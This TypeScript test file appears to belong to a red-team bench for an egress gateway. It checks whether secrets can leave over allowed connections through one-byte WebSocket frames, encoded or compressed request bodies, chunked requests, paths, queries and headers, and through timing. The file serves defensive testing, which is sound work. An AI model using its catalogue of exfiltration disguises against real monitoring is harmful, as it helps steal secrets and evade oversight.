/** Secrets on their way out over an allowed connection. */
import { createHash } from 'node:crypto';
import type { Duplex } from 'node:stream';
import { gzipSync } from 'node:zlib';
import type { Row } from '../../row.ts';
import { type EgressBench, routesTo } from '../egress-bench.ts';
import { type HttpTry, httpStep, isOk, summary } from '../http-step.ts';

const BUDGET_BYTES = 64 * 1024;
/** What may be on its way when the budget is spent */
const SLACK_BYTES = 64 * 1024;
const FRAMES = 30_000;
/** One text frame; whoever sends hears that the other side still reads */
const SIGN_OF_LIFE = Buffer.of(0x81, 1, 0x78);
const FRAME = Buffer.of(0x82, 0x81, 0, 0, 0, 0, 0x73).toString('latin1');
const WEBSOCKET_ID = '258EAFA5-E914-47DA-95CA-C5AB0DC85B11';
const KEY = 'dGVyb2stcmVkdGVhbS1rZXk=';

const handshake = (host: string): string =>
  [
    'GET /allowed HTTP/1.1',
    `Host: ${host}`,
    'Connection: Upgrade',
    'Upgrade: websocket',
    'Sec-WebSocket-Version: 13',
    `Sec-WebSocket-Key: ${KEY}`,
    '',
    '',
  ].join('\r\n');

/** Opens the WebSocket and counts what arrives on it. */
function countBytes(socket: Duplex, count: (bytes: number) => void): void {
  const accept = createHash('sha1')
    .update(KEY + WEBSOCKET_ID)
    .digest('base64');
  socket
    .on('error', () => socket.destroy())
    .on('data', (chunk: Buffer) => {
      count(chunk.length);
      socket.write(SIGN_OF_LIFE);
    });
  socket.write(`HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Accept: ${accept}\r\n\r\n`);
}

/** One value in the disguises that a careful thief would try. */
function disguises(value: string): Readonly<Record<string, HttpTry>> {
  const base64 = (text: string): string => Buffer.from(text).toString('base64');
  const post = (body: string, headers: readonly string[] = []): HttpTry => ({ method: 'POST', body, headers });
  const chunks = value
    .split('')
    .map((character) => `1\r\n${character}\r\n`)
    .join('');
  return {
    'as it is': post(`x=${value}`),
    base64: post(base64(value)),
    'base64, one byte later': post(base64(`x${value}`)),
    'base64, two bytes later': post(base64(`xy${value}`)),
    base64url: post(Buffer.from(`?>${value}`).toString('base64url')),
    'base64 twice': post(base64(base64(value))),
    hexadecimal: post(Buffer.from(value).toString('hex')),
    HEXADECIMAL: post(Buffer.from(value).toString('hex').toUpperCase()),
    'percent-encoded': post([...Buffer.from(value)].map((byte) => `%${byte.toString(16)}`).join('')),
    'JSON escapes': post(
      `{"x":"${value
        .split('')
        .map((character) => `\\u${character.charCodeAt(0).toString(16).padStart(4, '0')}`)
        .join('')}"}`,
    ),
    gzip: { method: 'POST', body: gzipSync(value).toString('latin1'), headers: ['Content-Encoding: gzip'] },
    'a chunk for each character': {
      raw: `POST /allowed HTTP/1.1\r\nHost: HOST\r\nConnection: close\r\nTransfer-Encoding: chunked\r\n\r\n${chunks}0\r\n\r\n`,
    },
    'the query': { path: `/allowed?x=${value}` },
    'the path': { path: `/allowed/${value}` },
    'a header': { headers: [`X-Note: ${value}`] },
  };
}

export const CHANNEL_ROWS: readonly Row<EgressBench>[] = [
  {
    id: 'E21',
    title: 'a WebSocket as covert channel',
    claim: 'What goes over a WebSocket counts towards the budget of its route.',
    attack: 'sends a secret in 30 000 frames of one byte each',
    defence: 'bytes are counted in flight; a spent budget cuts the connection',
    control: 'all frames arrive on a route without a budget',
    async run(trial, bench) {
      const { open, target } = bench;
      const bottle = await bench.bottle({ routes: [...routesTo(target, { budget: { bytesUp: BUDGET_BYTES } }), ...routesTo(open)] });
      const received = { open: 0, target: 0 };
      open.onUpgrade = (_request, socket) => countBytes(socket, (bytes) => (received.open += bytes));
      target.onUpgrade = (_request, socket) => countBytes(socket, (bytes) => (received.target += bytes));
      const frames = FRAME.repeat(FRAMES);
      const send = (server: typeof open) => httpStep(server, { raw: [handshake(`${server.name}:${server.securePort}`), frames] });
      const [free, limited] = await bench.probe(bottle, [send(open), send(target)]);
      trial.control(
        'without a budget',
        received.open === frames.length,
        `${received.open} of ${frames.length} bytes, ${free === undefined ? '' : summary(free)}`,
      );
      trial.control('the WebSocket opens', target.seen.length === 1, limited === undefined ? '' : summary(limited));
      trial.attack(
        'more than the budget',
        received.target > BUDGET_BYTES + SLACK_BYTES,
        `${received.target} bytes, ${limited === undefined ? '' : summary(limited)}`,
      );
      open.reset();
      target.reset();
      await bottle.remove();
    },
  },
  {
    id: 'E24',
    title: 'a stolen secret in disguise',
    claim:
      'A secret of the vault does not leave in a request, in any of the common encodings; on managed hosts an encoding that cannot be read is refused.',
    attack: 'sends the value of a stored secret to an allowed host as it is, encoded, compressed, in pieces, in path, query and headers',
    defence: 'exact values of all stored secrets are looked for in flight, in every common encoding, through known compressions',
    control: 'another value of the same shape arrives in each of the disguises',
    async run(trial, bench) {
      const { open, managed, secret } = bench;
      const bottle = await bench.shared();
      const steps = (value: string) =>
        Object.values(disguises(value)).map((what) =>
          httpStep(open, typeof what.raw === 'string' ? { raw: what.raw.replace('HOST', `${open.name}:${open.securePort}`) } : what),
        );
      const harmless = await bench.probe(bottle, steps(secret.replaceAll(/[0-9a-f]/g, 'd')));
      trial.control('a harmless value', harmless.every(isOk), harmless.map(summary));
      open.reset();
      const names = Object.keys(disguises(secret));
      for (const [index, outcome] of (await bench.probe(bottle, steps(secret))).entries())
        trial.attack(names[index] ?? '', isOk(outcome), summary(outcome));
      const authorised = ['Content-Encoding: zstd-of-my-own', `Authorization: Bearer ${bench.phantom}`];
      managed.reset();
      const [unknown] = await bench.probe(bottle, [httpStep(managed, { method: 'POST', body: 'x', headers: authorised })]);
      trial.attack(
        'an unknown encoding on a managed host',
        unknown !== undefined && isOk(unknown),
        unknown === undefined ? '' : summary(unknown),
      );
    },
  },
  {
    id: 'E25',
    title: 'timing and volume',
    claim: 'None: who may talk to a host can tell it something by when and how much.',
    attack: 'modulates the times and sizes of allowed requests',
    defence: 'budgets of bytes and requests bound what can be told',
    control: 'none',
    run: { outOfScope: 'no gateway can see this without changing what it carries; budgets limit the damage' },
  },
];
